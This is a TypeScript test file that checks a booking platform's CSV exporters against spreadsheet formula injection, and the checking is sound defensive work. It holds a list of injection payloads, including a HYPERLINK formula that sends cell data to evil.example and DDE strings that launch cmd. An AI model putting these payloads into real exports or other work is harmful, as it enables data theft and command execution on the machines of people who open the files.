/**
 * CSV formula injection (issue 7, OWASP "CSV injection"): every CSV export of the API (issue 13:
 * the files are written by the server now), fed
 * records whose text fields start with = + - @ tab or CR, writes no cell a spreadsheet would run
 * as a formula. The records are poisoned generically (every text field, nested ones included), so
 * a column added to an exporter later is covered too.
 */
import { CSV_SEPARATOR, escapeCsvCell, toCsv } from '@trayecto/shared';
import { describe, expect, it } from 'vitest';
import { accommodationsCsv } from '../modules/accommodations/accommodations.export';
import { auditCsv } from '../modules/audit/audit.export';
import { bookingsCsv } from '../modules/bookings/bookings.export';
import { messagesCsv } from '../modules/messages/messages.export';
import { personsCsv } from '../modules/persons/persons.export';
import { productsCsv } from '../modules/products/products.export';
import { tourOperatorsCsv } from '../modules/tour-operators/tour-operators.export';
import { usersCsv } from '../modules/users/users.export';
import { vehiclesCsv } from '../modules/vehicles/vehicles.export';
import { csvTimes, type TCsvColumns } from './csv-stream';

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Ver")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  // Look like phone numbers, but are not plain ones: still neutralised.
  "+34 600 000 000+cmd|' /C calc'!A0",
  '+34600000000*A1',
  '+1 (800) CALL-NOW',
  '+123',
];
const FORMULA_START = /^[=+\-@\t\r]/;
/** Fields that hold dates, times or ids: kept valid so formatting does not fail first. */
const KEEP = /(^id$|_id$|_at$|^date$|^time$|^valid_|_expiry$|^from$|^to$)/;
const NOW = '2026-11-22T10:00:00.000Z';

/** Every text field of a record (nested ones too) set to the payload. */
function poison<T>(value: T, payload: string, key = ''): T {
  if (typeof value === 'string') return (KEEP.test(key) ? value : payload) as T;
  if (Array.isArray(value)) return value.map((v) => poison(v, payload, key)) as T;
  if (value && typeof value === 'object') {
    return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, poison(v, payload, k)])) as T;
  }
  return value;
}

/** RFC 4180 parsing with ";" (the exporter's dialect): rows of unquoted cells. */
function parseCsv(csv: string): string[][] {
  const text = csv.replace(/^\uFEFF/, '');
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === CSV_SEPARATOR) {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell !== '' || row.length) rows.push([...row, cell]);
  return rows;
}

const common = { id: '3f0c7a2e-1a2b-4c3d-8e9f-0a1b2c3d4e5f', created_at: NOW, updated_at: NOW };
const operator = { id: '9b2f6a1c-0d4e-4f5a-9b8c-7d6e5f4a3b2c', name: 'Teide Aventura' };

// One realistic record per exporter (only the fields the exporters read matter; the rest is cast).
const RECORDS = {
  users: {
    ...common,
    full_name: 'Ana',
    email: 'ana@example.com',
    phone: '600',
    level: 2,
    state: 1,
    tour_operator: operator,
    tour_operator_id: operator.id,
    address: 'Calle',
    lat_lng: '',
    commission_pct: 10,
  },
  products: {
    ...common,
    code: 'TEI-01',
    name: 'Teide',
    state: 'active',
    duration_minutes: 480,
    capacity: 50,
    from_price_cents: 4500,
    tour_operator: operator,
    tour_operator_id: operator.id,
    languages: ['es'],
    pickup_enabled: true,
    short_description: 'Subida',
    meeting_point: 'Plaza',
  },
  bookings: {
    ...common,
    locator: 'TRY-7K2QF9',
    date: '2026-12-01',
    time: '09:00',
    product: { id: operator.id, name: 'Teide', code: 'TEI' },
    customer_name: 'Lucía',
    customer_country: 'ES',
    customer_email: 'l@example.com',
    customer_phone: '600',
    lines: [{ pax_type: 'adult', quantity: 2, unit_cents: 4500, total_cents: 9000 }],
    pax_total: 2,
    accommodation: { id: operator.id, name: 'Hotel Jardín' },
    room: '214',
    pickup_time: '08:20',
    total_cents: 9000,
    paid_cents: 0,
    refunded_cents: 0,
    pending_cents: 9000,
    state: 'confirmed',
    payment_state: 'pending',
    channel: 'office',
    seller: { id: operator.id, full_name: 'Sergio' },
  },
  vehicles: {
    ...common,
    tour_operator_id: operator.id,
    plate: '1234ABC',
    name: 'Bus',
    model: 'Irizar',
    type: 'bus',
    seats: 50,
    transport_authorization: 'AUT',
    state: 1,
    notes: 'Notas',
    unavailable_periods: [],
  },
  persons: {
    ...common,
    tour_operator_id: operator.id,
    full_name: 'Laura',
    document_id: 'X',
    role: 'guide',
    phone: '600',
    email: 'l@example.com',
    languages: ['es'],
    license_number: 'L',
    state: 1,
    notes: 'Notas',
  },
  accommodations: {
    ...common,
    tour_operator_id: operator.id,
    shared: false,
    name: 'Hotel',
    type: 'hotel',
    address: 'Calle',
    zone: 'Adeje',
    lat_lng: '28.1,-16.7',
    phone: '922',
    pickup_point: 'Puerta',
    pickup_at_id: null,
    pickup_at: { id: operator.id, name: 'Otro' },
    state: 1,
    notes: 'Notas',
  },
  auditLog: {
    ...common,
    tour_operator_id: operator.id,
    timezone: 'Europe/Madrid',
    actor_id: operator.id,
    actor_kind: 'staff',
    actor_label: 'Ana <ana@example.com>',
    entity_type: 'booking',
    entity_id: operator.id,
    action: 'update',
    summary: 'Reserva TRY-7K2QF9',
    changes: { customer_name: ['Lucía', 'Lucía Pérez'], notes: [null, 'Nota'] },
    request_id: 'req-1',
    ip: '10.0.0.1',
  },
  messages: {
    ...common,
    tour_operator_id: operator.id,
    timezone: 'Europe/Madrid',
    kind: 'booking_confirmed',
    channel: 'email',
    state: 'failed',
    recipient: 'l@example.com',
    recipient_name: 'Lucía',
    subject: 'Reserva confirmada',
    locale: 'es',
    preview: 'Hola',
    attempts: 6,
    last_error: '550 5.1.1 Usuario desconocido',
    next_attempt_at: null,
    sent_at: null,
    booking_id: operator.id,
    booking_locator: 'TRY-7K2QF9',
    user_id: null,
    actor_name: 'Ana',
    resend_of: null,
    response_status: null,
  },
  tourOperators: {
    ...common,
    name: 'Teide',
    legal_name: 'Teide SL',
    tax_id: 'B38',
    email: 'i@example.com',
    phone: '922',
    address: 'Calle',
    website: 'https://t.example',
    logo_url: '',
    brand_color: '#0e7490',
    timezone: 'Europe/Madrid',
    currency: 'EUR',
    default_commission_pct: 10,
    booking_terms: 'Condiciones',
    state: 1,
    users_count: 3,
  },
};

// biome-ignore lint/suspicious/noExplicitAny: the records are cast to each exporter's own type
type AnyRecord = any;
/** One file of the given columns and records (what the stream writes, in one go). */
const fileOf = <T>(columns: TCsvColumns<T>, rows: T[]) => toCsv(columns.header, rows.map(columns.row));
const ADMIN = csvTimes('Europe/Madrid', true);
const bookingsToCsv = (rows: AnyRecord[]) => fileOf(bookingsCsv(ADMIN), rows);
const EXPORTERS: Record<string, (r: AnyRecord) => string> = {
  users: (r) => fileOf(usersCsv(true, ADMIN), [r]),
  products: (r) => fileOf(productsCsv(true), [r]),
  bookings: (r) => bookingsToCsv([r]),
  vehicles: (r) =>
    fileOf(
      vehiclesCsv(() => r.tour_operator_name ?? 'Operador'),
      [r],
    ),
  persons: (r) =>
    fileOf(
      personsCsv(() => 'Operador'),
      [r],
    ),
  accommodations: (r) =>
    fileOf(
      accommodationsCsv(() => 'Operador'),
      [r],
    ),
  tourOperators: (r) => fileOf(tourOperatorsCsv(ADMIN), [r]),
  auditLog: (r) => fileOf(auditCsv(ADMIN), [r]),
  messages: (r) =>
    fileOf(
      messagesCsv(ADMIN, () => 'Operador'),
      [r],
    ),
};

describe('CSV exports neutralise formulas', () => {
  for (const [name, exporter] of Object.entries(EXPORTERS)) {
    it(`${name}: no cell starts with = + - @ tab or CR, whatever the text fields hold`, () => {
      const record = RECORDS[name as keyof typeof RECORDS];
      for (const payload of PAYLOADS) {
        const rows = parseCsv(exporter(poison(record, payload)));
        expect(rows.length).toBe(2);
        const cells = rows[1];
        const dangerous = cells.filter((c) => FORMULA_START.test(c));
        expect(dangerous, `${name} ${JSON.stringify(payload)}`).toEqual([]);
        // The payload did reach the file (neutralised with a leading apostrophe), so the check means something.
        expect(cells.filter((c) => c === `'${payload}`).length, `${name} ${JSON.stringify(payload)}`).toBeGreaterThan(
          0,
        );
      }
    });
  }

  it('negative amounts stay numbers (no apostrophe on numbers), text minus signs are escaped', () => {
    const csv = bookingsToCsv([{ ...RECORDS.bookings, total_cents: -500, customer_name: '-5' }]);
    const cells = parseCsv(csv)[1];
    expect(cells).toContain('-5');
    expect(cells).toContain("'-5");
  });
});

describe('a plain phone number is not a formula (issue 12)', () => {
  it('phones typed with a leading + are written as typed, without an apostrophe', () => {
    for (const phone of [
      '+34 600 000 000',
      '+34600000000',
      '+44 (0)20 7946-0958',
      '+1 800.555.0199',
      '+351 912 345 678',
    ]) {
      expect(escapeCsvCell(phone), phone).toBe(phone);
    }
    const cells = parseCsv(bookingsToCsv([{ ...RECORDS.bookings, customer_phone: '+34 600 000 000' }]))[1];
    expect(cells).toContain('+34 600 000 000');
    expect(cells).not.toContain("'+34 600 000 000");
  });

  it('anything else after a + (operators, letters, references, DDE, too few or too many digits) keeps the apostrophe', () => {
    for (const s of [
      '+1+1',
      '+A1',
      '+34 600 000 000+1',
      '+34 600|cmd',
      '+SUM(1;2)',
      '+123',
      '+1234567890123456',
      '+34 600 000 000\n=1',
      '-34 600 000 000',
      '=34 600 000 000',
      '@34600000000',
    ]) {
      expect(escapeCsvCell(s).replace(/^"/, ''), JSON.stringify(s)).toMatch(/^'/);
    }
  });
});
